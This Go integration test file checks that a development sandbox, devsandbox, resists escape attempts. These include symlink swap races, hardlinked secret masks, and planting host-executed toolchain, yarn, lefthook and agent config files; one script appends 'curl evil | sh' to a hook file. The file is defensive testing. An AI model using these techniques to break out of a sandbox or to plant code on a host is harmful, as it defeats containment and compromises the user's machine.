//go:build integration

package integration

import (
	"bytes"
	"fmt"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"golang.org/x/sys/unix"
)

var attackOnce struct {
	sync.Once
	path string
	err  error
}

// installAttack places the attack program (testdata/attack, built once, static so
// every image runs it) in the project at rel.
func (p *project) installAttack(rel string) {
	p.t.Helper()
	attackOnce.Do(func() {
		dir, err := os.MkdirTemp(it.tmp, "attack-")
		if err != nil {
			attackOnce.err = err
			return
		}
		attackOnce.path = filepath.Join(dir, "attack")
		cmd := exec.Command("go", "build", "-o", attackOnce.path, "./testdata/attack")
		cmd.Env = append(os.Environ(), "CGO_ENABLED=0")
		if out, err := cmd.CombinedOutput(); err != nil {
			attackOnce.err = fmt.Errorf("building the attack program: %v: %s", err, out)
		}
	})
	if attackOnce.err != nil {
		p.t.Fatal(attackOnce.err)
	}
	b, err := os.ReadFile(attackOnce.path)
	if err != nil {
		p.t.Fatal(err)
	}
	p.write(rel, string(b))
	if err := os.Chmod(p.path(rel), 0o755); err != nil {
		p.t.Fatal(err)
	}
}

// Finding 6: a second session of the project swaps a directory with a symlink out
// of the project while new sessions launch; what they mount is what was checked,
// never the symlink's target.
func TestBindSourceSwap(t *testing.T) {
	forEachIsolator(t, func(t *testing.T, iso string) {
		bindSourceSwap(t, newProject(t), iso, nil)
	})
}

// The same with the swapped directory bound by itself, the file to mask directly in
// it (no anchor between them): a sandbox.writable_dirs entry of a read-only project,
// swapped by a concurrent session of the project without read_only.
func TestBindSourceSwapWritableDir(t *testing.T) {
	forEachIsolator(t, func(t *testing.T, iso string) {
		p := newProject(t)
		ro := p.writeConfig(iso, "ro.toml", "[sandbox]\nwritable_dirs = [\"sub\"]\n")
		bindSourceSwap(t, p, iso, []string{"--read-only", "--config", ro}, filepath.Base(ro))
	})
}

// bindSourceSwap launches sessions of p with flags while a session without them
// swaps proj/sub (which comes to hold a .env) with a link to ../other; beside the
// project the host may hold only other and the names in files.
func bindSourceSwap(t *testing.T, p *project, iso string, flags []string, files ...string) {
	if isDocker(iso) {
		t.Cleanup(func() { removeRootOwned(t, filepath.Join(it.home, ".local/share/devsandbox", p.name(), "home")) })
	}
	// Not a repository: an engine that cannot pin refuses one (.git is an
	// anchor), and the swapping session must run on every isolator.
	if err := os.RemoveAll(p.path("proj/.git")); err != nil {
		t.Fatal(err)
	}
	p.write("proj/sub/marker", "PROJECT\n")
	p.write("other/marker", "SIBLING\n")
	if err := os.Symlink("../other", p.path("proj/sub.x")); err != nil {
		t.Fatal(err)
	}
	_ = os.Lchown(p.path("proj/sub.x"), it.uid, it.gid)
	p.installAttack("proj/attack")
	// The directory, held open: the file to mask is made in it whatever its name
	// is at the moment.
	sub, err := os.Open(p.path("proj/sub"))
	if err != nil {
		t.Fatal(err)
	}
	defer sub.Close()
	a := command(t.Context(), p.dir, baseEnv(), "--isolator="+iso, "--", "./attack", "exchange", "sub", "sub.x", ".stop-swap")
	var aerr bytes.Buffer
	a.Stderr = &aerr
	stdout, _ := a.StdoutPipe()
	if err := a.Start(); err != nil {
		t.Fatal(err)
	}
	newLineReader(t, stdout).waitFor("swapping")
	// A file to mask, made after the swapping session started (which then has no
	// mount point at sub): every new session masks it through a bind of its dir.
	fd, err := unix.Openat(int(sub.Fd()), ".env", unix.O_CREAT|unix.O_WRONLY|unix.O_CLOEXEC, 0o644)
	if err != nil {
		t.Fatal(err)
	}
	_, _ = unix.Write(fd, []byte("SECRET=1\n"))
	_ = unix.Fchown(fd, it.uid, it.gid)
	unix.Close(fd)
	launches := map[string]int{"bwrap": 50}[iso]
	if launches == 0 {
		launches = 20
	}
	codes := map[int]int{}
	for i := 0; i < launches; i++ {
		r := p.sandbox(iso, flags, `cat sub/marker sub.x/marker 2>/dev/null; touch sub/written sub.x/written 2>/dev/null; true`)
		codes[r.code]++
		if strings.Contains(r.stdout, "SIBLING") {
			t.Errorf("launch %d showed the symlink's target:\n%s", i, r)
		}
		if _, err := os.Lstat(p.path("other/written")); err == nil {
			t.Fatalf("launch %d wrote to the symlink's target:\n%s", i, r)
		}
		if r.code != 0 && r.code != 125 {
			t.Fatalf("launch %d:\n%s", i, r)
		}
	}
	p.write("proj/.stop-swap", "")
	if err := a.Wait(); err != nil {
		t.Fatalf("the swapping session: %v\n%s", err, aerr.String())
	}
	t.Logf("%d launches during the swap: exit statuses %v", launches, codes)
	// A backend that refused every launch would pass what follows vacuously (a
	// launch during the swap runs only when every check on its way found the same
	// one of the two): with the directory back in place, a launch runs, the mask in
	// place — on every isolator but an engine that refuses anchors.
	if fi, err := os.Lstat(p.path("proj/sub")); err == nil && fi.Mode()&os.ModeSymlink != 0 {
		if err := unix.Renameat2(unix.AT_FDCWD, p.path("proj/sub"), unix.AT_FDCWD, p.path("proj/sub.x"), unix.RENAME_EXCHANGE); err != nil {
			t.Fatal(err)
		}
	}
	r := p.sandbox(iso, flags, `cat sub/marker sub/.env`)
	switch {
	case refusesAnchors(iso):
		wantAnchorsRefused(t, r)
	case r.code != 0 || r.stdout != "PROJECT\n":
		t.Errorf("after the swap, with the directory in place, a launch did not run with the mask in place:\n%s", r)
	}
	// Where the link leads on the host: nothing may appear there, on any
	// isolator — neither what the sandbox writes nor a mount point the engine
	// makes for a mask inside the swapped directory (runc makes a missing one
	// where the bind it mounted leads). Nor may anything else beside the
	// project change.
	ents, err := os.ReadDir(p.path("other"))
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range ents {
		full := p.path("other/" + e.Name())
		if e.Name() == "marker" {
			if b, err := os.ReadFile(full); err != nil || string(b) != "SIBLING\n" {
				t.Errorf("the symlink's target on the host changed: marker %q, %v", b, err)
			}
			continue
		}
		fi, err := os.Lstat(full)
		owner := -1
		if err == nil {
			owner = int(fi.Sys().(*syscall.Stat_t).Uid)
		}
		t.Errorf("the symlink's target on the host changed: %s appeared (%v, owner %d, %v)", full, fi, owner, err)
	}
	want := append([]string{"other", "proj"}, files...)
	slices.Sort(want)
	if got := p.rootNames(); !slices.Equal(got, want) {
		t.Errorf("beside the project, the host now has %q (want %q)", got, want)
	}
}

// rootNames lists the names in the directory holding the project.
func (p *project) rootNames() []string {
	ents, err := os.ReadDir(p.root)
	if err != nil {
		p.t.Fatal(err)
	}
	var names []string
	for _, e := range ents {
		names = append(names, e.Name())
	}
	return names
}

// removeRootOwned removes, and logs, what root owns below dir. A known gap of the
// docker isolator: when a swap wins the race, the engine (root) makes a mask's mount
// point through the symlink, in the sandbox home (here home/<root>/other/.env); the
// init then stops the run (125), but the root-owned entries stay, and `devsandbox
// sandboxes rm` cannot remove them (permission denied). Removed here so that the
// project's cleanup (sandboxes rm) checks the rest.
func removeRootOwned(t *testing.T, dir string) {
	var roots []string
	_ = filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return nil
		}
		if fi, err := d.Info(); err == nil && fi.Sys().(*syscall.Stat_t).Uid == 0 {
			roots = append(roots, path)
			if d.IsDir() {
				return filepath.SkipDir
			}
		}
		return nil
	})
	for _, r := range roots {
		t.Logf("known gap: the engine left %s (root's) in the sandbox home", r)
		os.RemoveAll(r)
	}
}

// Finding 7: a masked file with another link is not a mask. The sandbox links .env
// before it exists; the host later writes it in place; the next run must not show
// the secret through the other name.
func TestHardlinkedMask(t *testing.T) {
	forEachIsolator(t, func(t *testing.T, iso string) {
		p := newProject(t)
		p.mustSandbox(iso, nil, `mkdir .cache && touch .cache/x && ln .cache/x .env`)
		if err := os.WriteFile(p.path("proj/.env"), []byte("SECRET=hardlinked\n"), 0o644); err != nil {
			t.Fatal(err)
		}
		r := p.sandbox(iso, nil, `cat .cache/x .env`)
		if strings.Contains(r.stdout, "hardlinked") {
			t.Fatalf("the secret showed through the other link:\n%s", r)
		}
		if r.code != 125 || !strings.Contains(r.stderr, ".cache/x") {
			t.Fatalf("a masked file with another link did not stop the run, naming the link:\n%s", r)
		}
	})
}

// Toolchain, version-manager and editor files that make a host tool run a program
// without being asked (rustup's toolchain path, asdf and mise path: versions, mise's
// env and hooks once the file is trusted by path, Zed's language servers, JetBrains
// file watchers) get the same treatment: read-only when they exist (neither written
// nor renamed away), reported as soon as the sandbox creates one.
func TestHostToolchainFiles(t *testing.T) {
	forEachIsolator(t, func(t *testing.T, iso string) {
		p := newProject(t)
		existing := map[string]string{
			"rust-toolchain.toml": "[toolchain]\nchannel = \"stable\"\n",
			"mise.toml":           "[tools]\nnode = \"22\"\n",
			".tool-versions":      "nodejs 22.1.0\n",
			".zed/settings.json":  "{}\n",
			".idea/workspace.xml": "<project/>\n",
			// A MISE_ENV profile and rtx's (mise's old name) file.
			"mise.production.toml": "[env]\nA = \"1\"\n",
			".rtx.toml":            "[tools]\nnode = \"22\"\n",
		}
		for f, c := range existing {
			p.write("proj/"+f, c)
		}
		script := ""
		for f := range existing {
			script += fmt.Sprintf("echo x >> %s 2>/dev/null && echo WROTE %s; ", f, f)
		}
		script += `echo x > .idea/watcherTasks.xml 2>/dev/null && echo WROTE .idea/watcherTasks.xml; `
		script += `mv mise.toml m 2>/dev/null && echo WROTE mise.toml by rename; mv .idea i 2>/dev/null && echo WROTE .idea by rename; `
		script += `mv mise.production.toml m2 2>/dev/null && echo WROTE mise.production.toml by rename; `
		// Profile names are open-ended (MISE_ENV=anything): whatever name the sandbox
		// picks is reported, in each place mise reads a profile from.
		created := []string{"rust-toolchain", ".mise/config.toml", ".config/mise/config.toml", "mise.local.toml", ".zed/tasks.json",
			"mise.staging.toml", ".mise.ci.local.toml", ".config/mise.dev.toml", ".config/mise/config.x1.toml",
			".mise/config.prod.toml", "mise/config.qa.local.toml", ".rtx.local.toml", ".rtx.beta.toml"}
		for _, f := range created {
			script += fmt.Sprintf("mkdir -p %s && echo '[toolchain]' > %s; ", filepath.Dir(f), f)
		}
		out := runReported(t, p, iso, script, created)
		if strings.Contains(out, "WROTE") {
			t.Errorf("the sandbox changed a file host tools run:\n%s", out)
		}
		for f, c := range existing {
			if b, err := os.ReadFile(p.path("proj/" + f)); err != nil || string(b) != c {
				t.Errorf("%s on the host: %q, %v", f, b, err)
			}
		}
	})
}

// TestHostToolchainFilesInSubdirs: rustup, asdf and mise read their toolchain,
// version and config files in every directory from where they run up to /, so the
// protection of TestHostToolchainFiles holds in the project's sub-directories too:
// an existing file there is read-only and cannot be renamed away with a directory
// holding it, and one the sandbox creates (in a sub-directory or deeper) is reported
// while the command runs. Before, the sandbox could write sub/rust-toolchain.toml
// with path = "sub/evil", which rustup runs on the host when you cd sub with a
// prompt that asks rustc for its version.
func TestHostToolchainFilesInSubdirs(t *testing.T) {
	forEachIsolator(t, func(t *testing.T, iso string) {
		p := newProject(t)
		existing := map[string]string{
			"crates/a/rust-toolchain.toml":     "[toolchain]\nchannel = \"stable\"\n",
			"web/.tool-versions":               "nodejs 22.1.0\n",
			"web/app/mise.toml":                "[tools]\nnode = \"22\"\n",
			"web/app/.config/mise/config.toml": "[env]\nA = \"1\"\n",
			"svc/deep/.miserc.toml":            "env = [\"dev\"]\n",
		}
		for f, c := range existing {
			p.write("proj/"+f, c)
		}
		script := ""
		for f := range existing {
			script += fmt.Sprintf("echo x >> %s 2>/dev/null && echo WROTE %s; rm -f %s 2>/dev/null && echo REMOVED %s; ", f, f, f, f)
		}
		for _, d := range []string{"crates/a", "crates", "web/app/.config", "web", "svc/deep"} {
			script += fmt.Sprintf("mv %s %s.moved 2>/dev/null && echo WROTE %s by rename; ", d, d, d)
		}
		created := []string{"sub/rust-toolchain.toml", "sub/deep/rust-toolchain", "sub/.tool-versions", "sub/deep/er/.tool-versions",
			"sub/deep/mise.toml", "sub/.mise.toml", "sub/deep/.mise/config.toml", "sub/mise/config.toml", "sub/.config/mise.toml",
			"sub/deep/.config/mise/config.toml", "sub/mise.ci.local.toml", "sub/deep/.miserc.toml", "sub/.rtx.toml",
			"web/rust-toolchain"}
		for _, f := range created {
			script += fmt.Sprintf("mkdir -p %s && echo '[toolchain]' > %s; ", filepath.Dir(f), f)
		}
		out := runReported(t, p, iso, script, created)
		if strings.Contains(out, "WROTE") || strings.Contains(out, "REMOVED") {
			t.Errorf("the sandbox changed a file host tools run:\n%s", out)
		}
		for f, c := range existing {
			if b, err := os.ReadFile(p.path("proj/" + f)); err != nil || string(b) != c {
				t.Errorf("%s on the host: %q, %v", f, b, err)
			}
		}
	})
}

// TestHostYarnFiles: yarn's rc files name a JS file every host `yarn` runs instead of
// itself (berry's .yarnrc.yml yarnPath, yarn 1's .yarnrc yarn-path), and plugins
// (.yarnrc.yml plugins) every yarn command loads; yarn reads the rc files in every
// directory up to /. So an existing rc file, the release it names and a plugin it
// names are read-only and cannot be renamed away, and an rc file the sandbox creates
// (top directory or a sub-directory) is reported. Before, the sandbox could rewrite
// .yarn/releases/yarn-fake.cjs, and the user's next `yarn --version` ran it.
func TestHostYarnFiles(t *testing.T) {
	forEachIsolator(t, func(t *testing.T, iso string) {
		p := newProject(t)
		existing := map[string]string{
			".yarnrc.yml":                  "yarnPath: .yarn/releases/yarn-fake.cjs\nplugins:\n  - path: .yarn/plugins/plugin-x.cjs\n",
			".yarn/releases/yarn-fake.cjs": "console.log('fake yarn')\n",
			".yarn/plugins/plugin-x.cjs":   "module.exports = {}\n",
			"legacy/.yarnrc":               "yarn-path \"./tools/yarn-1.js\"\n",
			"legacy/tools/yarn-1.js":       "console.log('yarn 1')\n",
		}
		for f, c := range existing {
			p.write("proj/"+f, c)
		}
		script := ""
		for f := range existing {
			script += fmt.Sprintf("echo x >> %s 2>/dev/null && echo WROTE %s; ", f, f)
		}
		// Replace and rename: the release by a new file, its directories away.
		script += `echo evil > r.cjs; mv -f r.cjs .yarn/releases/yarn-fake.cjs 2>/dev/null && echo WROTE release by replace; `
		script += `rm -f .yarn/releases/yarn-fake.cjs 2>/dev/null && echo REMOVED release; `
		script += `mv .yarnrc.yml y 2>/dev/null && echo WROTE .yarnrc.yml by rename; `
		script += `mv .yarn/releases rel 2>/dev/null && echo WROTE .yarn/releases by rename; `
		script += `mv .yarn yy 2>/dev/null && echo WROTE .yarn by rename; `
		script += `mv legacy/tools lt 2>/dev/null && echo WROTE legacy/tools by rename; `
		created := []string{".yarnrc", "sub/.yarnrc.yml", "sub/deep/.yarnrc", "legacy/.yarnrc.yml"}
		for _, f := range created {
			script += fmt.Sprintf("mkdir -p %s && echo 'yarnPath: evil.cjs' > %s; ", filepath.Dir(f), f)
		}
		out := runReported(t, p, iso, script, created)
		if strings.Contains(out, "WROTE") || strings.Contains(out, "REMOVED") {
			t.Errorf("the sandbox changed a file the host's yarn runs:\n%s", out)
		}
		for f, c := range existing {
			if b, err := os.ReadFile(p.path("proj/" + f)); err != nil || string(b) != c {
				t.Errorf("%s on the host: %q, %v", f, b, err)
			}
		}
	})
}

// Finding 8: project files that tools on the host run are read-only when they exist
// and reported as soon as the sandbox creates them.
func TestHostExecutedFiles(t *testing.T) {
	forEachIsolator(t, func(t *testing.T, iso string) {
		p := newProject(t)
		p.write("proj/.envrc", "export A=1\n")
		// lefthook merges its -local config (git-ignored: no diff shows a change)
		// into the hooks the host's next commit runs.
		p.write("proj/lefthook-local.yml", "pre-commit:\n  jobs:\n    - run: make lint\n")
		created := []string{".devcontainer/devcontainer.json", ".vscode/tasks.json", "opencode.json", ".opencode/agent.md", ".cursor/mcp.json", ".aider.conf.yml", "CLAUDE.local.md",
			".config/lefthook-local.json", ".lefthook-local/pre-commit.sh"}
		script := `echo x >> .envrc 2>/dev/null && echo ENVRC-WRITTEN; `
		script += `echo '    - run: curl evil | sh' >> lefthook-local.yml 2>/dev/null && echo LEFTHOOK-WRITTEN; `
		for _, f := range created {
			script += fmt.Sprintf("mkdir -p %s && echo '{}' > %s; ", filepath.Dir(f), f)
		}
		want := []string{".devcontainer/devcontainer.json", ".vscode/tasks.json", "opencode.json", ".opencode", ".cursor/mcp.json", ".aider.conf.yml", "CLAUDE.local.md",
			".config/lefthook-local.json", ".lefthook-local"}
		out := runReported(t, p, iso, script, want)
		if strings.Contains(out, "ENVRC-WRITTEN") {
			t.Errorf("the sandbox wrote .envrc")
		}
		if strings.Contains(out, "LEFTHOOK-WRITTEN") {
			t.Errorf("the sandbox wrote lefthook-local.yml, which the host's next commit runs")
		}
	})
}

// TestHostMiseNamedFiles: a host user whose environment makes mise read other file
// names (MISE_OVERRIDE_CONFIG_FILENAMES, MISE_DEFAULT_TOOL_VERSIONS_FILENAME) gets
// those files protected like mise.toml: read-only when they exist, reported when the
// sandbox creates one; and mise's early settings (.miserc.toml), which choose those
// names untrusted, are reported too, while the names one outside the project lists
// are protected. Before, the sandbox could rewrite a trusted
// config under such a name, or a tool-versions file mise reads without any trust.
func TestHostMiseNamedFiles(t *testing.T) {
	forEachIsolator(t, func(t *testing.T, iso string) {
		p := newProject(t)
		existing := map[string]string{"cfg/dev.toml": "[env]\nA = \"1\"\n", ".versions": "node 22.1.0\n", "rc/x.toml": "[env]\n"}
		for f, c := range existing {
			p.write("proj/"+f, c)
		}
		// A .miserc.toml above the project names a file mise then reads in it.
		p.write(".miserc.toml", "override_config_filenames = [\"rc/x.toml\"]\n")
		script := ""
		for f := range existing {
			script += fmt.Sprintf("echo x >> %s 2>/dev/null && echo WROTE %s; ", f, f)
		}
		script += `mv cfg c 2>/dev/null && echo WROTE cfg by rename; mv rc r 2>/dev/null && echo WROTE rc by rename; `
		created := []string{"missing.toml", "env/x.toml", ".miserc.toml", ".config/miserc.toml"}
		for _, f := range created {
			script += fmt.Sprintf("mkdir -p %s && echo 'env = [\"x\"]' > %s; ", filepath.Dir(f), f)
		}
		env := baseEnv("MISE_OVERRIDE_CONFIG_FILENAMES=cfg/dev.toml:missing.toml:env/*.toml", "MISE_DEFAULT_TOOL_VERSIONS_FILENAME=.versions")
		if out := runReportedEnv(t, p, iso, env, script, created); strings.Contains(out, "WROTE") {
			t.Errorf("the sandbox changed a file the host's mise reads:\n%s", out)
		}
		for f, c := range existing {
			if b, err := os.ReadFile(p.path("proj/" + f)); err != nil || string(b) != c {
				t.Errorf("%s on the host: %q, %v", f, b, err)
			}
		}
	})
}

// runReported runs script in p's sandbox under iso, then has it wait for .continue,
// and fails unless devsandbox reports each of the project paths want as created
// while the command still runs. It returns the command's output.
func runReported(t *testing.T, p *project, iso, script string, want []string) string {
	t.Helper()
	return runReportedEnv(t, p, iso, baseEnv(), script, want)
}

// runReportedEnv is runReported with devsandbox started in the environment env.
func runReportedEnv(t *testing.T, p *project, iso string, env []string, script string, want []string) string {
	t.Helper()
	script += `echo created; while [ ! -e .continue ]; do sleep 0.05; done`
	cmd := command(t.Context(), p.dir, env, "--isolator="+iso, "--", "/bin/sh", "-c", script)
	stderr, _ := cmd.StderrPipe()
	var out bytes.Buffer
	cmd.Stdout = &out
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	lr := newLineReader(t, stderr)
	seen, lines := map[string]bool{}, []string{}
	deadline := time.After(30 * time.Second) // then say which were not reported
wait:
	for len(seen) < len(want) {
		select {
		case l, ok := <-lr.lines:
			if !ok {
				break wait
			}
			lines = append(lines, l)
			for _, w := range want {
				if strings.Contains(l, "the sandbox created "+filepath.Join(p.dir, w)+":") {
					seen[w] = true
				}
			}
		case <-deadline:
			break wait
		}
	}
	p.write("proj/.continue", "")
	_ = cmd.Wait()
	for _, w := range want {
		if !seen[w] {
			t.Errorf("%s created but not reported while the command ran", w)
		}
	}
	if t.Failed() {
		t.Logf("devsandbox said:\n%s", strings.Join(lines, "\n"))
	}
	return out.String()
}

// A sandbox that plants hundreds of toolchain files in new sub-directories (each a
// read-only bind and an anchor at the next launch) does not make its user's next
// launch crawl or fail obscurely (bwrap 0.8: seconds per thousand mounts, and it
// refuses over 9,000 arguments): the launch stops at once, saying how many mounts,
// where from and what to do, and runs again once they are removed.
func TestPlantedToolFilesStopNextLaunch(t *testing.T) {
	forEachIsolator(t, func(t *testing.T, iso string) {
		p := newProject(t)
		p.mustSandbox(iso, nil, `i=0; while [ $i -lt 600 ]; do mkdir -p planted/d$i && echo 'nodejs 22' > planted/d$i/.tool-versions; i=$((i+1)); done`)
		if _, err := os.Stat(p.path("proj/planted/d599/.tool-versions")); err != nil {
			t.Fatalf("the sandbox did not plant the files: %v", err)
		}
		start := time.Now()
		r := p.sandbox(iso, nil, "echo RAN")
		took := time.Since(start)
		if r.code != 125 || strings.Contains(r.stdout, "RAN") || !strings.Contains(r.stderr, "more than the 1000") || !strings.Contains(r.stderr, p.path("proj/planted/d0/.tool-versions")) {
			t.Fatalf("the launch after the planting: want it stopped (125) naming the mounts and a planted file:\n%s", r)
		}
		t.Logf("%s: refused in %v", iso, took)
		if err := os.RemoveAll(p.path("proj/planted")); err != nil {
			t.Fatal(err)
		}
		if out := p.mustSandbox(iso, nil, "echo RAN"); !strings.Contains(out, "RAN") {
			t.Errorf("after the removal the command did not run: %q", out)
		}
	})
}
